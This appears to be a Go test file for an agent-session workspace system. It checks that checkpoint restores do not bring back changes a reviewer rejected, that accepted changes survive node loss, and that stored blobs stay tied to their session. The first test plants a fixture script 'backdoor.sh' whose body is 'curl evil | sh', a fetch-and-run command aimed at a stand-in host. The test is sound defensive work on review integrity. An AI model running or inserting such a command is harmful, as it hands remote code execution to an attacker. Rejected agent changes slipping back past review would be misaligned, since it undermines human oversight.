package durable_test

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/paddock-dev/paddock/internal/copies"
	"github.com/paddock-dev/paddock/internal/durable"
	"github.com/paddock-dev/paddock/internal/durable/durabletest"
	"github.com/paddock-dev/paddock/internal/session"
	"github.com/paddock-dev/paddock/internal/spec"
	"github.com/paddock-dev/paddock/internal/store"
	"github.com/paddock-dev/paddock/internal/store/sqlstore"
	"github.com/paddock-dev/paddock/internal/workspace"
)

type atk3 struct {
	st   *sqlstore.Store
	acts *durable.Activities
	repo string
}

func atk3Setup(t *testing.T) *atk3 {
	t.Helper()
	st := durabletest.Store(t)
	// Replay scripts are the session workflow's test scripts.
	return &atk3{st: st, acts: durabletest.Activities(t, st, filepath.Join("..", "workflows")), repo: durabletest.Repo(t)}
}

// session creates a session with a working copy cloned from the repository.
func (e *atk3) session(t *testing.T, id, project string) session.Session {
	t.Helper()
	ctx := context.Background()
	_, _, err := e.st.CreateSession(ctx, store.NewSession{ID: id, Project: project,
		Agent: spec.Record{Project: project, Name: "a", Spec: []byte(`{}`), Digest: "d"}, Repo: e.repo,
		CreatedBy: session.Sender{Kind: session.SenderOperator, ID: "root"}, StartKind: session.KindStart})
	require.NoError(t, err)
	dir := filepath.Join(e.acts.Copies.WorkspaceDir, id)
	require.NoError(t, workspace.Clone(ctx, e.repo, dir))
	base, err := workspace.Head(ctx, dir)
	require.NoError(t, err)
	require.NoError(t, e.st.SetWorkspace(ctx, id, "", dir, base))
	s, err := e.st.GetSession(ctx, id)
	require.NoError(t, err)
	return s
}

// TestRejectedChangesComeBack: the agent writes a file (a checkpoint
// records it), the reviewer rejects the diff (the copy goes back to its
// base; the base commit stays the same, and no checkpoint is recorded),
// then the node is lost before the agent's next file-changing call. The
// next call's ensureCopy restores the last checkpoint, whose base still
// matches: the rejected change is back in the copy, silently.
func TestRejectedChangesComeBack(t *testing.T) {
	ctx := context.Background()
	e := atk3Setup(t)
	s := e.session(t, "s-reject", "default")
	require.NoError(t, os.WriteFile(filepath.Join(s.Workdir, "backdoor.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
	copies.RecordStep(ctx, e.st, e.acts.ContentKey, s, "call-1", "")
	cps, err := e.st.Steps(ctx, s.ID)
	require.NoError(t, err)
	require.Len(t, cps, 1)

	// What Service.Review().Reject does: copies.Set.Discard, Deliver(base, base), and
	// the copy's state recorded.
	require.NoError(t, e.acts.Copies.Discard(ctx, s))
	require.NoError(t, e.st.Deliver(ctx, s.ID, s.BaseCommit, s.BaseCommit, session.DeliveryRejected, session.Sender{Kind: session.SenderOperator, ID: "root"}, "changes discarded"))
	copies.RecordStep(ctx, e.st, e.acts.ContentKey, s, "reject", "")
	require.NoFileExists(t, filepath.Join(s.Workdir, "backdoor.sh"))

	// The node is lost; a fresh one runs the next call.
	require.NoError(t, os.RemoveAll(s.Workdir))
	s, err = e.st.GetSession(ctx, s.ID)
	require.NoError(t, err)
	require.NoError(t, e.acts.Lifecycle().EnsureCopy(ctx, &s, spec.Agent{}))
	require.NoFileExists(t, filepath.Join(s.Workdir, "backdoor.sh"), "the rejected (discarded) file is back after a restore")
}

// TestCheckpointAfterAcceptRestores: after an acceptance the base is
// the copy's snapshot commit, which the repository of origin does not have;
// a node that lost the copy fails every later call ("no longer has the
// session's base").
func TestCheckpointAfterAcceptRestores(t *testing.T) {
	ctx := context.Background()
	e := atk3Setup(t)
	s := e.session(t, "s-accept", "default")
	require.NoError(t, os.WriteFile(filepath.Join(s.Workdir, "a.txt"), []byte("accepted\n"), 0o644))
	copies.RecordStep(ctx, e.st, e.acts.ContentKey, s, "call-1", "")
	d, err := workspace.Compute(ctx, s.Workdir, s.BaseCommit)
	require.NoError(t, err)
	next, err := workspace.Snapshot(ctx, s.Workdir, s.BaseCommit, d.Tree, "accepted", workspace.Author{})
	require.NoError(t, err)
	require.NoError(t, e.st.Deliver(ctx, s.ID, s.BaseCommit, next, session.DeliveryAccepted, session.Sender{Kind: session.SenderOperator, ID: "root"}, "uncommitted"))
	prev := s.BaseCommit
	s, err = e.st.GetSession(ctx, s.ID)
	require.NoError(t, err)
	// What Service.Review().Accept does next: the new base recorded, with its bundle.
	copies.RecordStep(ctx, e.st, e.acts.ContentKey, s, "accept", prev)
	require.NoError(t, os.WriteFile(filepath.Join(s.Workdir, "b.txt"), []byte("after\n"), 0o644))
	copies.RecordStep(ctx, e.st, e.acts.ContentKey, s, "call-2", "")

	require.NoError(t, os.RemoveAll(s.Workdir))
	require.NoError(t, e.acts.Lifecycle().EnsureCopy(ctx, &s, spec.Agent{}))
	require.FileExists(t, filepath.Join(s.Workdir, "a.txt"))
	require.FileExists(t, filepath.Join(s.Workdir, "b.txt"))
}

// TestBlobsStayInTheirSession: a checkpoint of one session restores
// only its own files; another session's (another project's) content with
// a different key binding never opens under this one's IDs. (Passes:
// blobs are bound to the SHA-256 of their content, so a shared ID means
// shared content.)
func TestBlobsStayInTheirSession(t *testing.T) {
	ctx := context.Background()
	e := atk3Setup(t)
	a := e.session(t, "s-a", "alpha")
	b := e.session(t, "s-b", "beta")
	require.NoError(t, os.WriteFile(filepath.Join(a.Workdir, "secret.txt"), []byte("alpha's secret\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(b.Workdir, "secret.txt"), []byte("beta's own\n"), 0o644))
	copies.RecordStep(ctx, e.st, e.acts.ContentKey, a, "c1", "")
	copies.RecordStep(ctx, e.st, e.acts.ContentKey, b, "c1", "")
	require.NoError(t, os.RemoveAll(b.Workdir))
	require.NoError(t, e.acts.Lifecycle().EnsureCopy(ctx, &b, spec.Agent{}))
	got, err := os.ReadFile(filepath.Join(b.Workdir, "secret.txt"))
	require.NoError(t, err)
	require.Equal(t, "beta's own\n", string(got))
	// A blob moved under another ID does not open.
	ca, err := e.st.Steps(ctx, a.ID)
	require.NoError(t, err)
	sealed, err := e.st.Blob(ctx, ca[0].Files[0].Blob)
	require.NoError(t, err)
	_, err = e.acts.ContentKey.Decrypt(sealed, copies.BlobAD("0000000000000000000000000000000000000000000000000000000000000000"))
	require.Error(t, err)
}
